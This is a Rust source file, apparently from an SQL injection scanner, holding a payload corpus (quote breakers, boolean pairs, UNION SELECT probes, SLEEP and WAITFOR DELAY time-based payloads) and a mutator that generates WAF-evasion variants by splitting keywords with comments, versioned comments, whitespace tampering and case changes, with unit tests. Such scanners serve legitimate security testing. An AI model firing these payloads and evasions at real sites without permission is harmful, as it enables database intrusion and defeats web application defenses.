//! Static payload corpus and the deterministic WAF-evasion mutator.
//!
//! Every probe value sent by the engine is `seed + variant` where the
//! variant comes out of [`mutate`]. The mutation order is fixed so that a
//! scan is reproducible request-for-request.

use lazy_static::lazy_static;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use regex::{Regex, RegexBuilder};

/// Basic break-out / syntax error triggers.
pub const ERROR_PAYLOADS: [&str; 4] = ["'", "\"", "')", "\" )"];

/// Boolean pair for numeric contexts.
pub const BOOLEAN_NUM_TRUE: &str = " AND 1=1 -- ";
pub const BOOLEAN_NUM_FALSE: &str = " AND 1=2 -- ";

/// Boolean pair for string contexts (close the quote first).
pub const BOOLEAN_STR_TRUE: &str = "' OR '1'='1' -- ";
pub const BOOLEAN_STR_FALSE: &str = "' OR '1'='2' -- ";

/// Marker echoed back by a successful UNION injection.
pub const UNION_MARKER: &str = "ZXUNIONZX";

const KEYWORDS: [&str; 6] = ["UNION", "SELECT", "FROM", "WHERE", "AND", "OR"];

lazy_static! {
    static ref KEYWORD_PATTERNS: Vec<Regex> = KEYWORDS
        .iter()
        .map(|keyword| {
            RegexBuilder::new(&format!(r"\b{keyword}\b"))
                .case_insensitive(true)
                .build()
                .unwrap()
        })
        .collect();
    static ref LINE_COMMENT: Regex = Regex::new(r"--\s*").unwrap();
}

/// `UNION SELECT` probe with `columns` NULL placeholders, numeric context.
/// The string-context variant is the same payload preceded by a quote.
pub fn union_select(columns: usize) -> String {
    format!(" UNION SELECT {} -- ", null_columns(columns))
}

/// Confirmation payload: the middle NULL is replaced with a quoted marker
/// that a reflected UNION row would echo verbatim.
pub fn union_marker_select(columns: usize) -> String {
    let mut cells = vec!["NULL".to_string(); columns];
    cells[columns / 2] = format!("'{UNION_MARKER}'");
    format!(" UNION SELECT {} -- ", cells.join(","))
}

fn null_columns(columns: usize) -> String {
    vec!["NULL"; columns].join(",")
}

/// Delay payloads for MySQL (`SLEEP`) and MSSQL (`WAITFOR DELAY`), with the
/// delay clamped to at least one whole second.
pub fn time_payloads(threshold: f64) -> Vec<String> {
    let seconds = (threshold as i64).max(1);
    vec![
        format!(" AND SLEEP({seconds}) -- "),
        format!("' OR SLEEP({seconds}) -- "),
        format!("'; WAITFOR DELAY '0:0:{seconds}';-- "),
    ]
}

/// Expands a base payload into its WAF-evasion variants.
///
/// The sequence is deterministic and starts with the original payload:
/// keyword splitting with inline comments (cumulative, then per keyword),
/// versioned comments, whitespace tampering, trailing-comment variants for
/// line comments, keyword trail comments, case alternation, seeded case
/// randomization, and the legacy `UN/**/ION` split. Duplicates are removed
/// while preserving first occurrence.
pub fn mutate(payload: &str) -> Vec<String> {
    let mut variants: Vec<String> = Vec::new();

    add(&mut variants, payload.to_string());

    let mut split_all = payload.to_string();
    for pattern in KEYWORD_PATTERNS.iter() {
        split_all = split_keyword(&split_all, pattern);
    }
    add(&mut variants, split_all);
    for pattern in KEYWORD_PATTERNS.iter() {
        add(&mut variants, split_keyword(payload, pattern));
    }

    let mut versioned_all = payload.to_string();
    for pattern in KEYWORD_PATTERNS.iter() {
        versioned_all = versioned_keyword(&versioned_all, pattern);
    }
    add(&mut variants, versioned_all);
    for pattern in KEYWORD_PATTERNS.iter() {
        add(&mut variants, versioned_keyword(payload, pattern));
    }

    add(&mut variants, payload.replace(' ', "/**/"));
    add(&mut variants, payload.replace(' ', "\t"));
    add(&mut variants, payload.replace(' ', "\n"));

    if payload.contains("--") {
        add(&mut variants, payload.replace("--", "-- "));
        add(&mut variants, payload.replace("--", "--+"));
        add(&mut variants, LINE_COMMENT.replace_all(payload, "-- - ").into_owned());
    }

    let mut trailed = payload.to_string();
    for pattern in KEYWORD_PATTERNS.iter() {
        trailed = trail_keyword(&trailed, pattern);
    }
    add(&mut variants, trailed);

    add(&mut variants, case_alternate(payload));
    add(&mut variants, case_randomize(payload));

    add(
        &mut variants,
        payload.replace("UNION", "UN/**/ION").replace("union", "un/**/ion"),
    );

    variants
}

fn add(variants: &mut Vec<String>, candidate: String) {
    if !candidate.is_empty() && !variants.contains(&candidate) {
        variants.push(candidate);
    }
}

/// Inserts an inline comment roughly in the middle of each keyword match.
fn split_keyword(input: &str, pattern: &Regex) -> String {
    pattern
        .replace_all(input, |caps: &regex::Captures<'_>| {
            let keyword = &caps[0];
            let mid = (keyword.len() / 2).max(1);
            format!("{}/**/{}", &keyword[..mid], &keyword[mid..])
        })
        .into_owned()
}

/// Wraps each keyword match in a MySQL versioned comment, benign elsewhere.
fn versioned_keyword(input: &str, pattern: &Regex) -> String {
    pattern
        .replace_all(input, |caps: &regex::Captures<'_>| format!("/*!{}*/", &caps[0]))
        .into_owned()
}

/// Appends a block comment after each keyword to break signature matching.
fn trail_keyword(input: &str, pattern: &Regex) -> String {
    pattern
        .replace_all(input, |caps: &regex::Captures<'_>| format!("{}/*x*/", &caps[0]))
        .into_owned()
}

fn case_alternate(input: &str) -> String {
    input
        .chars()
        .enumerate()
        .map(|(index, ch)| {
            if index % 2 == 0 {
                ch.to_ascii_uppercase()
            } else {
                ch.to_ascii_lowercase()
            }
        })
        .collect()
}

/// Case-randomizes alphabetic characters with a fixed seed so the variant
/// set is stable across runs.
fn case_randomize(input: &str) -> String {
    let mut rng = StdRng::seed_from_u64(42);
    input
        .chars()
        .map(|ch| {
            if ch.is_alphabetic() {
                if rng.random::<f64>() < 0.5 {
                    ch.to_ascii_uppercase()
                } else {
                    ch.to_ascii_lowercase()
                }
            } else {
                ch
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutate_starts_with_original() {
        let variants = mutate(BOOLEAN_NUM_TRUE);
        assert_eq!(variants[0], BOOLEAN_NUM_TRUE);
    }

    #[test]
    fn mutate_is_deterministic() {
        let first = mutate(" UNION SELECT NULL -- ");
        let second = mutate(" UNION SELECT NULL -- ");
        assert_eq!(first, second);
    }

    #[test]
    fn mutate_has_no_duplicates() {
        let variants = mutate(BOOLEAN_STR_TRUE);
        let mut deduped = variants.clone();
        deduped.sort();
        deduped.dedup();
        assert_eq!(deduped.len(), variants.len());
    }

    #[test]
    fn mutate_splits_keywords() {
        let variants = mutate(" UNION SELECT NULL -- ");
        assert!(variants.iter().any(|v| v.contains("UN/**/ION")));
        assert!(variants.iter().any(|v| v.contains("SEL/**/ECT")));
    }

    #[test]
    fn mutate_wraps_versioned_comments() {
        let variants = mutate(" UNION SELECT NULL -- ");
        assert!(variants.iter().any(|v| v.contains("/*!UNION*/")));
    }

    #[test]
    fn mutate_emits_trailing_comment_variants() {
        let variants = mutate(" AND 1=1 -- ");
        assert!(variants.iter().any(|v| v.contains("--+")));
        assert!(variants.iter().any(|v| v.contains("-- - ")));
    }

    #[test]
    fn mutate_tampers_whitespace() {
        let variants = mutate(" AND 1=1 -- ");
        assert!(variants.iter().any(|v| v.contains("/**/AND")));
        assert!(variants.iter().any(|v| v.contains('\t')));
    }

    #[test]
    fn mutate_keeps_legacy_union_split() {
        let variants = mutate(" UNION SELECT NULL -- ");
        assert!(variants.iter().any(|v| v.contains("UN/**/ION")));
    }

    #[test]
    fn quote_payload_mutates_to_itself() {
        assert_eq!(mutate("'"), vec!["'".to_string()]);
    }

    #[test]
    fn union_select_joins_nulls() {
        assert_eq!(union_select(3), " UNION SELECT NULL,NULL,NULL -- ");
    }

    #[test]
    fn union_marker_sits_in_the_middle_column() {
        assert_eq!(
            union_marker_select(3),
            " UNION SELECT NULL,'ZXUNIONZX',NULL -- "
        );
        assert_eq!(union_marker_select(1), " UNION SELECT 'ZXUNIONZX' -- ");
    }

    #[test]
    fn time_payloads_clamp_to_one_second() {
        let payloads = time_payloads(0.4);
        assert!(payloads[0].contains("SLEEP(1)"));
        let payloads = time_payloads(2.9);
        assert!(payloads[0].contains("SLEEP(2)"));
        assert!(payloads[2].contains("0:0:2"));
    }
}
